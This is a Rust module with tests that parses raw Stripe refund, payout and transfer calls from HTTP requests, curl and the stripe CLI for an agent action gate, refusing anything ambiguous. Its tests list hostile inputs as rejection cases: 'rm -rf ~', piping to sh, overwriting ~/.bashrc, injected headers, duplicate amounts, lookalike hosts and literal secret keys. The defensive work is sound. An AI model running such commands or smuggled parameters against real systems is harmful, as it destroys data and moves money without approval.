//! Raw calls to Stripe's API read as the Stripe method they call.
//!
//! A refund can reach Stripe by the refund tool, by an HTTP request tool
//! (`POST https://api.stripe.com/v1/refunds`), by `curl`, or by the `stripe`
//! CLI. Read only as "an HTTP request" or "a command", the last three
//! escalate — and, recorded as something else, are missing from the
//! session's refund budget (`session.sum(payments.refund.amount, 24h)`), so a
//! refund a human approved that way left the whole budget for later ones.
//! These recognizers read such a call as the Stripe method and parameters it
//! is, so the stdlib maps it onto the same `payments.refund` (or `payout`,
//! `transfer`) as the tool: one effect, one verdict, one count.
//!
//! Like the other recognizers of conditional mappings (`shell_git_push`),
//! they answer only when sure; anything else is `None` and the call keeps
//! its generic action, which is never looser (an HTTP write with
//! credentials, or a network command: escalated). Sure means: the exact
//! endpoint (`https://api.stripe.com/v1/refunds`, no query, no port, no
//! trailing slash), a form body whose every key is one the mapping reads —
//! each once, after percent-decoding — and nothing else that changes what
//! Stripe does: no `Stripe-Account` header (another account's money), no
//! CLI option outside a short list, no shell syntax beyond quoting, and no
//! literal secret anywhere — not even Stripe's own key in the credential:
//! the generic action refuses a key written into a request (a key belongs
//! in the executor's configuration or a variable, `-u "$STRIPE_KEY:"`), and
//! reading the call as a refund must not loosen that.

use serde_json::Value as Json;

use crate::secrets;

/// The Stripe methods read, each a `create` of one resource.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Op {
    Refund,
    Payout,
    Transfer,
}

impl Op {
    /// The member `stripe_op` gives.
    pub fn name(self) -> &'static str {
        match self {
            Op::Refund => "refund",
            Op::Payout => "payout",
            Op::Transfer => "transfer",
        }
    }

    fn from_name(s: &str) -> Option<Op> {
        [Op::Refund, Op::Payout, Op::Transfer]
            .into_iter()
            .find(|o| o.name() == s)
    }

    /// The resource's path segment (`/v1/refunds`, `stripe refunds create`).
    fn resource(self) -> &'static str {
        match self {
            Op::Refund => "refunds",
            Op::Payout => "payouts",
            Op::Transfer => "transfers",
        }
    }

    fn from_resource(s: &str) -> Option<Op> {
        [Op::Refund, Op::Payout, Op::Transfer]
            .into_iter()
            .find(|o| o.resource() == s)
    }

    /// The parameters the stdlib's mapping of this method reads, plus
    /// `metadata[…]` (a label stored with the object; it moves nothing).
    /// Any other parameter — `reverse_transfer`, `refund_application_fee`,
    /// `instructions_email`, `source_type`, `on_behalf_of`, an expansion —
    /// changes what the call does in a way the action does not say.
    fn params(self) -> &'static [&'static str] {
        match self {
            Op::Refund => &["charge", "payment_intent", "amount", "reason"],
            Op::Payout => &[
                "amount",
                "currency",
                "method",
                "destination",
                "description",
                "statement_descriptor",
            ],
            Op::Transfer => &[
                "amount",
                "currency",
                "destination",
                "description",
                "transfer_group",
            ],
        }
    }
}

/// One Stripe method call: the method and its parameters, decoded, each key
/// once.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Call {
    pub op: Op,
    pub params: Vec<(String, String)>,
}

impl Call {
    fn new(op: Op, params: Vec<(String, String)>) -> Option<Call> {
        for (i, (k, v)) in params.iter().enumerate() {
            let known = op.params().contains(&k.as_str()) || metadata_key(k);
            if !known || params.iter().take(i).any(|(k2, _)| k2 == k) {
                return None;
            }
            // A parameter's text is stored at Stripe and shown to whoever
            // reads the account: a credential there is sent out.
            if has_secret(k) || has_secret(v) {
                return None;
            }
        }
        // A refund names exactly one charge or payment intent.
        if op == Op::Refund {
            let n = params
                .iter()
                .filter(|(k, _)| k == "charge" || k == "payment_intent")
                .count();
            if n != 1 {
                return None;
            }
        }
        Some(Call { op, params })
    }

    /// The call as one text (`refund amount=900&charge=ch_1`, values
    /// percent-encoded), for the mapping to hand from `stripe_http` or
    /// `stripe_shell` to `stripe_op` and `stripe_param`.
    pub fn canonical(&self) -> String {
        let mut out = String::from(self.op.name());
        out.push(' ');
        for (i, (k, v)) in self.params.iter().enumerate() {
            if i > 0 {
                out.push('&');
            }
            encode(k, &mut out);
            out.push('=');
            encode(v, &mut out);
        }
        out
    }

    /// A text [`Call::canonical`] wrote.
    pub fn from_canonical(s: &str) -> Option<Call> {
        let (op, form) = s.split_once(' ')?;
        Call::new(Op::from_name(op)?, form_pairs(form)?)
    }

    /// A parameter's value: a number when it is the plain decimal digits
    /// Stripe reads as an integer amount (no sign, no leading zero, at most
    /// 15 digits), a string otherwise; null when the call does not carry it.
    pub fn param(&self, name: &str) -> Json {
        let Some((_, v)) = self.params.iter().find(|(k, _)| k == name) else {
            return Json::Null;
        };
        let digits = !v.is_empty()
            && v.len() <= 15
            && v.bytes().all(|b| b.is_ascii_digit())
            && (v == "0" || !v.starts_with('0'));
        match v.parse::<i64>() {
            Ok(n) if digits => Json::from(n),
            _ => Json::String(v.clone()),
        }
    }
}

fn metadata_key(k: &str) -> bool {
    k.strip_prefix("metadata[")
        .and_then(|r| r.strip_suffix(']'))
        .is_some_and(|name| {
            !name.is_empty()
                && name.len() <= 40
                && name
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
        })
}

fn has_secret(s: &str) -> bool {
    secrets::has_secret(&Json::String(s.to_string()))
}

fn encode(s: &str, out: &mut String) {
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.[]".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
}

/// An `application/x-www-form-urlencoded` text as its pairs, decoded (`+` a
/// space, `%XX` a byte), in order. `None` for anything a form parser might
/// read another way: a piece with no `=`, an empty piece, `;` (an old
/// separator some parsers still split on), a bad escape, bytes that are
/// not UTF-8 once decoded, control characters.
pub fn form_pairs(form: &str) -> Option<Vec<(String, String)>> {
    if form.is_empty() {
        return Some(Vec::new());
    }
    if form
        .bytes()
        .any(|b| b == b';' || b == b'#' || b < 0x20 || b == 0x7f)
    {
        return None;
    }
    form.split('&')
        .map(|piece| {
            let (k, v) = piece.split_once('=')?;
            Some((decode(k)?, decode(v)?))
        })
        .collect::<Option<Vec<_>>>()
        .filter(|pairs| pairs.iter().all(|(k, _)| !k.is_empty()))
}

fn decode(s: &str) -> Option<String> {
    let mut out = Vec::with_capacity(s.len());
    let mut bytes = s.bytes();
    while let Some(c) = bytes.next() {
        match c {
            b'+' => out.push(b' '),
            b'%' => {
                let hex = |c: u8| char::from(c).to_digit(16);
                let hi = hex(bytes.next()?)?;
                let lo = hex(bytes.next()?)?;
                out.push(u8::try_from(hi * 16 + lo).ok()?);
            }
            c => out.push(c),
        }
    }
    let text = String::from_utf8(out).ok()?;
    (!text.chars().any(char::is_control)).then_some(text)
}

/// The method a URL names: exactly `https://api.stripe.com/v1/RESOURCE`.
/// The scheme and host may be any case; nothing else may differ — a port,
/// userinfo, a query (Stripe reads query parameters too), a fragment, a
/// trailing slash, an escape or a dot segment is not sure.
fn op_of_url(url: &str) -> Option<Op> {
    const BASE: &str = "https://api.stripe.com/v1/";
    let head = url.get(..BASE.len())?;
    if !head.eq_ignore_ascii_case(BASE) || !head.ends_with("/v1/") {
        return None;
    }
    Op::from_resource(&url[BASE.len()..])
}

/// Headers that change nothing Stripe does with the money. `Stripe-Account`
/// (act on a connected account), `Stripe-Context`, method overrides and any
/// other name are not sure.
const HEADERS: &[&str] = &[
    "authorization",
    "content-type",
    "idempotency-key",
    "stripe-version",
    "user-agent",
    "accept",
];

/// One header: its name allowed, its value free of line breaks and of any
/// literal secret; a form content type.
fn header_ok(name: &str, value: &str) -> bool {
    let name = name.trim().to_ascii_lowercase();
    if !HEADERS.contains(&name.as_str()) || value.contains(['\r', '\n']) {
        return false;
    }
    match name.as_str() {
        "content-type" => value
            .trim()
            .to_ascii_lowercase()
            .starts_with("application/x-www-form-urlencoded"),
        _ => !has_secret(value),
    }
}

/// An HTTP request tool's call: `method` as `http_method` gives it
/// (lowercase), the URL, the body (a form text, or absent), the headers (an
/// object, a list of `"Name: value"` strings, or absent).
pub fn from_http(method: &Json, url: &Json, body: &Json, headers: &Json) -> Option<Call> {
    if method.as_str()? != "post" {
        return None;
    }
    let op = op_of_url(url.as_str()?)?;
    let params = match body {
        Json::Null => Vec::new(),
        Json::String(s) => form_pairs(s)?,
        // A JSON body is not what Stripe's v1 API reads, and a client may
        // encode an object as JSON or as a form: not sure.
        _ => return None,
    };
    let mut names: Vec<String> = Vec::new();
    let mut header = |name: &str, value: &str| {
        let lower = name.trim().to_ascii_lowercase();
        if !header_ok(name, value) || names.contains(&lower) {
            return false;
        }
        names.push(lower);
        true
    };
    let headers_ok = match headers {
        Json::Null => true,
        Json::Object(m) => m
            .iter()
            .all(|(k, v)| v.as_str().is_some_and(|v| header(k, v))),
        Json::Array(items) => items.iter().all(|i| {
            i.as_str()
                .and_then(|s| s.split_once(':'))
                .is_some_and(|(k, v)| header(k, v.trim()))
        }),
        _ => false,
    };
    if !headers_ok {
        return None;
    }
    Call::new(op, params)
}

/// One shell word: its text, and whether it holds a `$NAME` expansion
/// (inside double quotes, so it stays one word whatever the value).
struct Word {
    text: String,
    expands: bool,
}

/// A command line as plain words: bare words of letters, digits and
/// `-_./:=@,+%`, single-quoted text, and double-quoted text without
/// backslashes, backquotes or `!` in which `$NAME`/`${NAME}` may appear.
/// Anything else — an unquoted `$`, a glob, a redirection, a second
/// command, a line break, a comment — is `None`.
fn plain_words(cmd: &str) -> Option<Vec<Word>> {
    let mut words = Vec::new();
    let mut rest = cmd.trim_start_matches([' ', '\t']);
    while !rest.is_empty() {
        let mut w = Word {
            text: String::new(),
            expands: false,
        };
        while let Some(c) = rest.chars().next() {
            if c == ' ' || c == '\t' {
                break;
            }
            let after = rest.get(1..)?;
            if c == '\'' || c == '"' {
                let (inner, tail) = after.split_once(c)?;
                if c == '"' {
                    if inner.contains(['\\', '`', '!']) {
                        return None;
                    }
                    if inner.contains('$') {
                        if !dollar_names_only(inner) {
                            return None;
                        }
                        w.expands = true;
                    }
                }
                w.text.push_str(inner);
                rest = tail;
            } else if c.is_ascii_alphanumeric() || "-_./:=@,+%".contains(c) {
                w.text.push(c);
                rest = after;
            } else {
                return None;
            }
        }
        if w.text.contains(['\n', '\r']) {
            return None;
        }
        words.push(w);
        rest = rest.trim_start_matches([' ', '\t']);
    }
    Some(words)
}

/// Every `$` starts `NAME` or `{NAME}` (upper-case letters, digits, `_`).
fn dollar_names_only(s: &str) -> bool {
    let name = |n: &str| {
        n.bytes()
            .next()
            .is_some_and(|c| c.is_ascii_uppercase() || c == b'_')
            && n.bytes()
                .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == b'_')
    };
    s.split('$').skip(1).all(|rest| {
        if let Some(r) = rest.strip_prefix('{') {
            r.split_once('}').is_some_and(|(n, _)| name(n))
        } else {
            let end = rest
                .find(|c: char| !(c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_'))
                .unwrap_or(rest.len());
            name(&rest[..end])
        }
    })
}

/// A shell command that is exactly one `curl` request to a Stripe method or
/// one `stripe` CLI call of it.
pub fn from_shell(cmd: &str) -> Option<Call> {
    // Cheap first: every Bash bind asks.
    if !cmd.contains("stripe") {
        return None;
    }
    let words = plain_words(cmd)?;
    match words.first()?.text.as_str() {
        "curl" => from_curl(words.get(1..)?),
        "stripe" => from_cli(words.get(1..)?),
        _ => None,
    }
}

/// A credential: an expansion of a variable (`"$KEY:"`) or a text with no
/// secret in it.
fn credential_ok(w: &Word) -> bool {
    !w.text.contains(['\r', '\n']) && !has_secret(&w.text)
}

/// `curl URL [-X POST] [-u KEY:] [-H 'Name: value']… [-d k=v]… [-sSf]`.
fn from_curl(args: &[Word]) -> Option<Call> {
    let mut url: Option<&str> = None;
    let mut form: Vec<String> = Vec::new();
    let mut post = false;
    let mut names: Vec<String> = Vec::new();
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let a = w.text.as_str();
        // An expansion anywhere but a credential is not sure.
        let value = |j: usize| args.get(j).filter(|v| !v.expands).map(|v| v.text.as_str());
        match a {
            "-X" | "--request" => {
                if value(i + 1)? != "POST" {
                    return None;
                }
                post = true;
                i += 1;
            }
            "-XPOST" => post = true,
            "-d" | "--data" | "--data-raw" | "--data-ascii" | "--data-binary" => {
                let d = value(i + 1)?;
                // `@file` reads a file the gate cannot see.
                if d.starts_with('@') {
                    return None;
                }
                form.push(d.to_string());
                i += 1;
            }
            "--data-urlencode" => {
                let (k, v) = value(i + 1)?.split_once('=')?;
                if k.is_empty() || k.contains('@') {
                    return None;
                }
                let mut piece = k.to_string();
                piece.push('=');
                encode(v, &mut piece);
                form.push(piece);
                i += 1;
            }
            "-u" | "--user" => {
                let u = args.get(i + 1)?;
                if !credential_ok(u) {
                    return None;
                }
                i += 1;
            }
            "-H" | "--header" => {
                let h = args.get(i + 1)?;
                let (name, v) = h.text.split_once(':')?;
                let lower = name.trim().to_ascii_lowercase();
                let ok = if h.expands {
                    lower == "authorization" && credential_ok(h)
                } else {
                    header_ok(name, v.trim())
                };
                if !ok || names.contains(&lower) {
                    return None;
                }
                names.push(lower);
                i += 1;
            }
            "--url" => {
                if url.replace(value(i + 1)?).is_some() {
                    return None;
                }
                i += 1;
            }
            _ if a.starts_with('-') => {
                // Quiet and fail flags only: `-s`, `-S`, `-f`, grouped.
                let short = a.len() > 1
                    && !a.starts_with("--")
                    && a[1..].bytes().all(|c| b"sSf".contains(&c));
                let long = matches!(
                    a,
                    "--silent" | "--show-error" | "--fail" | "--fail-with-body"
                );
                if !(short || long) {
                    return None;
                }
            }
            _ => {
                if w.expands || url.replace(a).is_some() {
                    return None;
                }
            }
        }
        i += 1;
    }
    // curl sends a POST when it sends data; `-X POST` without data sends an
    // empty one.
    if !post && form.is_empty() {
        return None;
    }
    let op = op_of_url(url?)?;
    let mut params = Vec::new();
    for piece in &form {
        params.extend(form_pairs(piece)?);
    }
    Call::new(op, params)
}

/// `stripe RESOURCE create [--param=value | --param value]… [-d k=v]…` or
/// `stripe post /v1/RESOURCE [-d k=v]…`, with the global options `--live`,
/// `--api-key KEY`, `--idempotency KEY`, `--stripe-version V`, `-c`/`--confirm`.
fn from_cli(args: &[Word]) -> Option<Call> {
    let (op, rest) = match args {
        [res, create, rest @ ..] if create.text == "create" && !res.expands => {
            (Op::from_resource(&res.text)?, rest)
        }
        [post, path, rest @ ..] if post.text == "post" && !path.expands => {
            (Op::from_resource(path.text.strip_prefix("/v1/")?)?, rest)
        }
        _ => return None,
    };
    let mut params: Vec<(String, String)> = Vec::new();
    let mut i = 0;
    while let Some(w) = rest.get(i) {
        let a = w.text.as_str();
        if w.expands {
            return None;
        }
        let (flag, inline) = match a.split_once('=') {
            Some((f, v)) if f.starts_with("--") => (f, Some(v)),
            _ => (a, None),
        };
        // The value of an option: inline after `=`, or the next word.
        let next = |i: &mut usize| -> Option<String> {
            if let Some(v) = inline {
                return Some(v.to_string());
            }
            *i += 1;
            rest.get(*i).filter(|v| !v.expands).map(|v| v.text.clone())
        };
        match flag {
            "--live" | "-c" | "--confirm" => {
                if inline.is_some() {
                    return None;
                }
            }
            "--api-key" => {
                if let Some(v) = inline {
                    if has_secret(v) {
                        return None;
                    }
                } else {
                    i += 1;
                    if !credential_ok(rest.get(i)?) {
                        return None;
                    }
                }
            }
            "--idempotency" | "--stripe-version" => {
                if has_secret(&next(&mut i)?) {
                    return None;
                }
            }
            "-d" | "--data" => {
                let v = next(&mut i)?;
                let (k, v) = v.split_once('=')?;
                params.push((k.to_string(), v.to_string()));
            }
            f if f.starts_with("--") => {
                // A parameter as a flag: `--payment-intent` is
                // `payment_intent`.
                let name = f[2..].replace('-', "_");
                if name.is_empty() || !name.bytes().all(|c| c.is_ascii_lowercase() || c == b'_') {
                    return None;
                }
                let v = next(&mut i)?;
                params.push((name, v));
            }
            _ => return None,
        }
        i += 1;
    }
    Call::new(op, params)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use serde_json::json;

    fn http(url: &str, body: Json, headers: Json) -> Option<String> {
        from_http(&json!("post"), &json!(url), &body, &headers).map(|c| c.canonical())
    }

    fn sh(cmd: &str) -> Option<String> {
        from_shell(cmd).map(|c| c.canonical())
    }

    const REFUNDS: &str = "https://api.stripe.com/v1/refunds";

    #[test]
    fn an_http_refund_is_read_as_the_refund_it_is() {
        assert_eq!(
            http(REFUNDS, json!("charge=ch_1&amount=900"), Json::Null).as_deref(),
            Some("refund charge=ch_1&amount=900")
        );
        let headers = json!({"Authorization": "Bearer ${STRIPE_KEY}",
            "Content-Type": "application/x-www-form-urlencoded", "Idempotency-Key": "r-81"});
        assert!(http(
            REFUNDS,
            json!("payment_intent=pi_9&amount=1500&reason=duplicate"),
            headers
        )
        .is_some());
        let list = json!(["Authorization: Bearer {{stripe_key}}"]);
        assert!(http(
            "HTTPS://API.STRIPE.COM/v1/refunds",
            json!("charge=ch_1&amount=900"),
            list
        )
        .is_some());
        // percent-encoded keys are the keys Stripe reads
        assert_eq!(
            http(REFUNDS, json!("charge=ch_1&%61mount=900"), Json::Null).as_deref(),
            Some("refund charge=ch_1&amount=900")
        );
    }

    #[test]
    fn an_attacker_cannot_make_stripe_read_another_amount_than_the_gate() {
        for body in [
            // which one Stripe's parser keeps is not ours to guess
            "charge=ch_1&amount=900&amount=900000",
            "charge=ch_1&amount=900&%61mount=900000",
            "charge=ch_1&amount=900;amount=900000",
            "charge=ch_1&amount=900&",
            "charge=ch_1&&amount=900",
            "charge=ch_1&amount",
            "charge=ch_1&amount=%zz",
            "charge=ch_1&amount[]=900",
            "charge=ch_1&amount=900#x",
            "charge=ch_1&amount=900\n&amount=9",
            // parameters the action does not carry
            "charge=ch_1&amount=900&reverse_transfer=true",
            "charge=ch_1&amount=900&expand[]=charge",
            "charge=ch_1&amount=900&instructions_email=a@evil.io",
            // no charge, or two
            "amount=900",
            "charge=ch_1&payment_intent=pi_1&amount=900",
            // a credential stored at Stripe is a credential sent out
            "charge=ch_1&amount=900&metadata[k]=AKIAZ2E4A7F3BXQ4C7R6",
        ] {
            assert_eq!(http(REFUNDS, json!(body), Json::Null), None, "{body}");
        }
        for url in [
            "https://api.stripe.com/v1/refunds?amount=900000",
            "https://api.stripe.com/v1/refunds/",
            "https://api.stripe.com:443/v1/refunds",
            "https://user@api.stripe.com/v1/refunds",
            "http://api.stripe.com/v1/refunds",
            "https://api.stripe.com/v1/refunds#x",
            "https://api.stripe.com/v1/%72efunds",
            "https://api.stripe.com/v1/./refunds",
            "https://api.stripe.com.evil.io/v1/refunds",
            "https://api.stripe.com/V1/refunds",
            "https://api.stripe.com/v1/charges",
        ] {
            assert_eq!(
                http(url, json!("charge=ch_1&amount=900"), Json::Null),
                None,
                "{url}"
            );
        }
        // another account's money, a method override, a second credential
        for headers in [
            json!({"Stripe-Account": "acct_1"}),
            json!({"X-HTTP-Method-Override": "DELETE"}),
            json!(["Authorization: Bearer x", "authorization: Bearer y"]),
            // a literal key is refused by the generic action; read as a
            // refund it would not be
            json!({"Authorization": "Bearer sk_live_4eC39HqLyjWDarjtT1zdp7dc"}),
            json!({"Authorization": "Bearer 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"}),
            json!({"Content-Type": "application/json"}),
            json!({"Idempotency-Key": "x\r\nStripe-Account: acct_1"}),
            json!({"Authorization": 5}),
            json!("Stripe-Account: acct_1"),
        ] {
            assert_eq!(
                http(REFUNDS, json!("charge=ch_1&amount=900"), headers.clone()),
                None,
                "{headers}"
            );
        }
        // a JSON body, a GET
        assert_eq!(
            http(
                REFUNDS,
                json!({"charge": "ch_1", "amount": 900}),
                Json::Null
            ),
            None
        );
        assert!(from_http(
            &json!("get"),
            &json!(REFUNDS),
            &json!("charge=ch_1&amount=900"),
            &Json::Null
        )
        .is_none());
    }

    #[test]
    fn an_amount_is_a_number_only_when_stripe_reads_it_as_one() {
        let c = |a: &str| {
            Call::new(
                Op::Refund,
                vec![
                    ("charge".into(), "ch_1".into()),
                    ("amount".into(), a.into()),
                ],
            )
            .map(|c| c.param("amount"))
        };
        assert_eq!(c("900"), Some(json!(900)));
        assert_eq!(c("0"), Some(json!(0)));
        for odd in [
            "0900",
            "9e3",
            "900.00",
            "-900",
            "+900",
            " 900",
            "9_000",
            "１０",
            "9999999999999999",
        ] {
            assert_eq!(c(odd), Some(json!(odd)), "{odd}");
        }
    }

    #[test]
    fn curl_and_the_stripe_cli_are_read_as_the_refund_they_send() {
        for cmd in [
            "curl https://api.stripe.com/v1/refunds -u \"${STRIPE_KEY}:\" -d charge=ch_1 -d amount=900",
            "curl -sS -X POST https://api.stripe.com/v1/refunds -u \"$STRIPE_SECRET_KEY:\" -d charge=ch_1 -d amount=900",
            "curl https://api.stripe.com/v1/refunds -H \"Authorization: Bearer $STRIPE_KEY\" -d 'charge=ch_1&amount=900'",
            "curl --url https://api.stripe.com/v1/refunds --data-urlencode charge=ch_1 --data amount=900",
            "stripe refunds create --charge=ch_1 --amount=900",
            "stripe refunds create --charge ch_1 --amount 900 --live",
            "stripe post /v1/refunds -d charge=ch_1 -d amount=900",
            "stripe refunds create --charge=ch_1 --amount=900 --api-key \"$STRIPE_API_KEY\" --idempotency r81",
        ] {
            let c = from_shell(cmd).unwrap();
            assert_eq!((c.op, c.param("amount")), (Op::Refund, json!(900)), "{cmd}");
        }
        assert_eq!(
            sh("stripe refunds create --payment-intent=pi_1 --amount=900").as_deref(),
            Some("refund payment_intent=pi_1&amount=900")
        );
        assert_eq!(
            sh("stripe payouts create --amount=5000 --currency=usd --method=instant").as_deref(),
            Some("payout amount=5000&currency=usd&method=instant")
        );
    }

    #[test]
    fn a_command_that_is_not_exactly_one_refund_is_not_read_as_one() {
        for cmd in [
            // the amount from the shell, not from the text
            "curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=$AMT",
            "curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d \"amount=$AMT\"",
            "curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=$(cat n)",
            "curl https://api.stripe.com/v1/refunds -u $KEY: -d charge=ch_1 -d amount=900",
            "curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d @amount.txt",
            "curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900 -d amount=900000",
            "curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900; curl -d amount=9 x.io",
            "curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900 | sh",
            "curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900 > ~/.bashrc",
            "curl -G https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900",
            "curl -X PUT https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900",
            "curl -H 'Stripe-Account: acct_9' https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900",
            "curl -x http://10.0.0.5:3128 https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900",
            "curl --resolve api.stripe.com:443:10.0.0.5 https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900",
            "curl -K cfg https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900",
            "curl https://api.stripe.com/v1/refunds https://evil.io/ -d charge=ch_1 -d amount=900",
            "curl https://api.stripe.com/v1/refunds -u 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: -d charge=ch_1 -d amount=900",
            "curl https://api.stripe.com/v1/refunds -u sk_live_4eC39HqLyjWDarjtT1zdp7dc: -d charge=ch_1 -d amount=900",
            "stripe refunds create --charge=ch_1 --amount=900 --api-key sk_live_4eC39HqLyjWDarjtT1zdp7dc",
            "curl https://api.stripe.com/v1/refunds -H \"X-Key: $K\" -d charge=ch_1 -d amount=900",
            "curl https://api.stripe.com/v1/refunds",
            "/usr/bin/curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900",
            "sudo curl https://api.stripe.com/v1/refunds -d charge=ch_1 -d amount=900",
            "stripe refunds create --charge=ch_1 --amount=900 --stripe-account acct_9",
            "stripe refunds create --charge=ch_1 --amount=900 --config /tmp/x.toml",
            "stripe refunds create --charge=ch_1 --amount=900 --amount=900000",
            "stripe refunds create --charge=ch_1 --amount=900 -d amount=900000",
            "stripe refunds create --charge=ch_1 --amount=900 --refund-application-fee=true",
            "stripe refunds create --charge=ch_1 --amount=\"$N\"",
            "stripe refunds create --charge=ch_1 -p other --amount=900",
            "stripe refunds update re_1 --amount=900",
            "stripe get /v1/refunds -d charge=ch_1",
            "stripe post /v1/refunds/re_1/cancel",
            "stripe refunds create --charge=ch_1 --amount=900\nrm -rf ~",
            "STRIPE_API_KEY=x stripe refunds create --charge=ch_1 --amount=900",
        ] {
            assert_eq!(sh(cmd), None, "{cmd}");
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(500))]
        /// Any text from the pieces an attacker would combine: never a
        /// panic, and whatever is read reads back the same.
        #[test]
        fn any_text_is_read_or_refused_without_panic(
            pieces in proptest::collection::vec(proptest::sample::select(vec![
                "curl ", "stripe ", "refunds ", "create ", "post ", "/v1/refunds ",
                "https://api.stripe.com/v1/refunds ", "-d ", "--amount=", "amount=", "charge=ch_1",
                "&", "=", "%", "%6", "%61", "+", ";", "'", "\"", "$", "${A}", "$A", " ", "\t",
                "\n", "-u ", "-H ", "Authorization: ", "900", "0", "é", "[", "]", "metadata[x]",
                "--", "-X ", "POST ", "-sS ", "#",
            ]), 0..24)
        ) {
            let text: String = pieces.concat();
            if let Some(c) = from_shell(&text) {
                proptest::prop_assert_eq!(Call::from_canonical(&c.canonical()), Some(c));
            }
            let body = text.trim_start_matches("curl ");
            if let Some(c) = from_http(&json!("post"), &json!(REFUNDS), &json!(body), &Json::Null) {
                proptest::prop_assert_eq!(Call::from_canonical(&c.canonical()), Some(c));
            }
            let _ = Call::from_canonical(&text).map(|c| c.param("amount"));
        }
    }

    #[test]
    fn the_canonical_text_round_trips() {
        let c = from_http(
            &json!("post"),
            &json!(REFUNDS),
            &json!("charge=ch_1&amount=900&reason=requested+by%20x&metadata[o]=a%26b"),
            &Json::Null,
        );
        let c = c.unwrap();
        assert_eq!(Call::from_canonical(&c.canonical()), Some(c.clone()));
        assert_eq!(c.param("reason"), json!("requested by x"));
        assert_eq!(c.param("metadata[o]"), json!("a&b"));
        assert_eq!(Call::from_canonical(""), None);
        assert_eq!(Call::from_canonical("refund amount=9"), None);
    }
}
